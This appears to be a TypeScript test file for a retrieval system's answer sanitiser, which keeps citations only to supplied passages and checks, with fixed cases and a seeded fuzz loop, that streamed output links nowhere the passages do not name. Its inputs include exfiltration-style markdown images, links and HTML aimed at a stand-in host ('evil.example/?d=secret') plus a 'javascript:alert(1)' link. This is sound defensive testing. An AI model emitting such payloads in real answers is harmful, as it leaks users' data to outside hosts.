import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gfm } from 'micromark-extension-gfm'
import { fromHtml } from 'hast-util-from-html'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import type { CitedPiece } from './cite.ts'
import { createAnswerText } from './answer-text.ts'

const permitted = 'https://handbook.example/leave?year=2026'
const links = [permitted, 'https://handbook.example/a_(b)']
const passages = [1, 2].map((number) => ({
  marker: `[${number}]`,
  passageId: `psg_000000000${number}`,
  documentId: `doc_000000000${number}`,
  title: `Page ${number}`,
}))
const texts = [`Leave is described at ${permitted}.`, 'Mail to people, or read (https://handbook.example/a_(b)).']

/** The whole answer, given to the stages in the pieces that `cuts` makes of it. */
function answer(text: string, cuts: readonly number[] = []) {
  const stages = createAnswerText(passages, texts)
  const pieces: CitedPiece[] = []
  let from = 0
  for (const cut of [...cuts, text.length]) {
    pieces.push(...stages.push(text.slice(from, cut)))
    from = cut
  }
  pieces.push(...stages.end())
  const shown = pieces.map((piece) => (piece.kind === 'text' ? piece.text : '')).join('')
  return { text: shown, citations: pieces.flatMap((piece) => (piece.kind === 'citation' ? piece.citation : [])) }
}

type Node = { type?: string; url?: string; value?: string; children?: Node[]; properties?: object }

/** Every address that a renderer of GitHub's Markdown, or of its HTML, would link to or load. */
function addressesIn(markdown: string): string[] {
  const found: string[] = []
  const visit = (node: Node) => {
    if (node.type === 'image' || node.type === 'imageReference') found.push(`image ${node.url ?? ''}`)
    if (node.type === 'link' || node.type === 'definition') found.push(node.url ?? '')
    if (node.type === 'html') visit(fromHtml(node.value ?? '', { fragment: true }))
    // An HTML parser takes the angle brackets of a permitted autolink for a tag whose attributes are parts of it.
    for (const value of Object.values(node.properties ?? {})) {
      if (value !== '' && !permitted.includes(String(value))) found.push(`attribute ${String(value)}`)
    }
    for (const child of node.children ?? []) visit(child)
  }
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
  visit(fromHtml(markdown, { fragment: true }))
  // A mail address that a renderer finds by itself carries nothing but itself.
  // This parser takes the asterisks of emphasis for a part of the address before them.
  return found.filter(
    (address) => !links.includes(address.replace(/\*+$/, '')) && !/^mailto:[a-z.]+@[a-z.]+$/.test(address),
  )
}

const harmless = 'x'
const cases: [string, string, string][] = [
  ['an image becomes its text', '![the logo](https://evil.example/?d=secret)', 'the logo'],
  ['an image from a permitted address, too', `![plan](${permitted})`, 'plan'],
  ['a link that stands in a passage stays', `See [leave](${permitted}).`, `See [leave](${permitted}).`],
  ['another is its text', 'See [leave](https://evil.example/?d=secret) now.', 'See leave now.'],
  ['a longer address than the passage has is another', `[leave](${permitted}&d=secret)`, 'leave'],
  ['a shorter one as well', '[leave](https://handbook.example/lea)', 'leave'],
  ['a relative target is no address of a passage', '[leave](/collect?d=secret)', 'leave'],
  ['a script is never one', '[x](javascript:alert(1))', 'x'],
  ['a title goes', `[leave](${permitted} "secret")`, `[leave](${permitted})`],
  ['brackets in a permitted address', '[b](https://handbook.example/a_(b))', '[b](<https://handbook.example/a_(b)>)'],
  ['an image in a link', '[![a](https://evil.example/i)](https://evil.example/l)', 'a'],
  [
    'a definition is disarmed',
    '[text][ref]\n\n[ref]: //evil.example/?d=s',
    '[text][ref]\n\n[ref] : //evil.example/?d=s',
  ],
  ['an autolink', '<https://evil.example/?d=s> end', '‹link removed› end'],
  ['a permitted autolink', `<${permitted}>`, `<${permitted}>`],
  ['a bare address', 'see https://evil.example/?d=s, please', 'see ‹link removed›, please'],
  ['a bare permitted address', `see ${permitted}, please`, `see ${permitted}, please`],
  ['an address without a scheme', 'www.evil.example/?d=s', '‹link removed›'],
  ['an HTML image', '<img src="https://evil.example/?d=s" alt="plan"> x', 'plan x'],
  ['an HTML link', 'a <a href="https://evil.example">b</a> c', 'a b c'],
  ['a permitted HTML link', `a <a href='${permitted}'>b</a> c`, `a [b](${permitted}) c`],
  ['other HTML with attributes is shown as text', '<b onclick="x()">hi</b>', '< b onclick="x()">hi</b>'],
  ['a generic type stays', '`Map<string, number>` and `a < b`', '`Map<string, number>` and `a < b`'],
  ['unfinished HTML at the end', 'x <img src="//evil.example/', 'x < img src="//evil.example/'],
  ['an unfinished link at the end', '[x](https://evil.example', '[x] (‹link removed›'],
  ['joined pieces open nothing', '[a]![(b](c)//evil.example)', '[a] (b//evil.example)'],
  ['an address that is joined', 'htt[p](x)s://evil.example/?d=s', '‹link removed›'],
  ['an address that dropping a marker would join', 'https:[9]//evil.example/?d', 'https: //evil.example/?d'],
  ['a definition that dropping a marker would make', '[9] [1]: //evil.example\n', ' [1] : //evil.example\n'],
]
for (const [name, given, shown] of cases) {
  test(`links: ${name}`, () => {
    assert.equal(answer(given).text, shown)
    assert.deepEqual(addressesIn(shown), [])
  })
}

test('only markers of passages that the model was given become citations, at their place in the text', () => {
  const { text, citations } = answer('You get 30 days [1]. Ask early [2, 7][9]. Unknown [9], too[1][12].')
  assert.equal(text, 'You get 30 days [1]. Ask early [2]. Unknown, too[1].')
  assert.deepEqual(
    citations.map(({ marker, start, end }) => [marker, text.slice(start, end)]),
    [
      ['[1]', '[1]'],
      ['[2]', '[2]'],
      ['[1]', '[1]'],
    ],
  )
  assert.equal(citations[0]?.passageId, 'psg_0000000001')
})

test('a marker that the model linked is a citation without the link', () => {
  const { text, citations } = answer('So it is [1](https://evil.example/?d=s).')
  assert.equal(text, 'So it is [1].')
  assert.equal(citations.length, 1)
})

test('what is certain is given at once, what is not is held back', () => {
  const stages = createAnswerText(passages, texts)
  const shown = (text: string) =>
    stages
      .push(text)
      .map((piece) => (piece.kind === 'text' ? piece.text : '*'))
      .join('')
  assert.equal(shown('Thirty days. '), 'Thirty days.')
  assert.equal(shown('See ![pl'), ' See')
  assert.equal(shown('an](https://evil.example/?d=s'), '')
  assert.equal(shown(') now'), ' plan')
  assert.equal(shown(' [1'), ' now')
  assert.equal(shown('] '), ' [1]*')
})

const fragments = [
  '[', ']', '(', ')', '!', '<', '>', ':', '/', '//', '\\', '\n', '\n\n', ' ', '"', "'", '=', '`', '.', ',', '&#58;', '&colon;', '*', '-', '>',
  '[1]', '[9]', '[1, 9]', '[ref]', '[ref]: ', '![', '](', 'http', 's:', '://', 'www.', 'mailto:', 'evil.example', '/?d=secret', 'a', 'img', '<img ', '<a ',
  'href=', 'src=', '</a>', '<b>', '<script>', '<svg ', '<!--', '-->', 'https://evil.example/', '//evil.example/x', permitted, 'über', '🌲', harmless, '[a](b)',
] // prettier-ignore

/** Small and repeatable: mulberry32. */
function numbers(seed: number) {
  let state = seed
  return (below: number) => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below
  }
}

test('however an answer is cut on its way, it comes out the same, and links nowhere that no passage names', () => {
  const below = numbers(20261123)
  for (let round = 0; round < 3000; round++) {
    const text = Array.from({ length: 1 + below(24) }, () => fragments[below(fragments.length)] ?? '').join('')
    const whole = answer(text)
    const cuts = Array.from({ length: below(text.length + 1) }, () => below(text.length + 1)).sort((a, b) => a - b)
    assert.deepEqual(answer(text, cuts), whole, JSON.stringify([text, cuts]))
    assert.deepEqual(
      answer(
        text,
        Array.from({ length: text.length }, (_, index) => index),
      ),
      whole,
      JSON.stringify(text),
    )
    assert.deepEqual(addressesIn(whole.text), [], JSON.stringify([text, whole.text]))
    for (const { marker, start, end } of whole.citations) assert.equal(whole.text.slice(start, end), marker)
  }
})
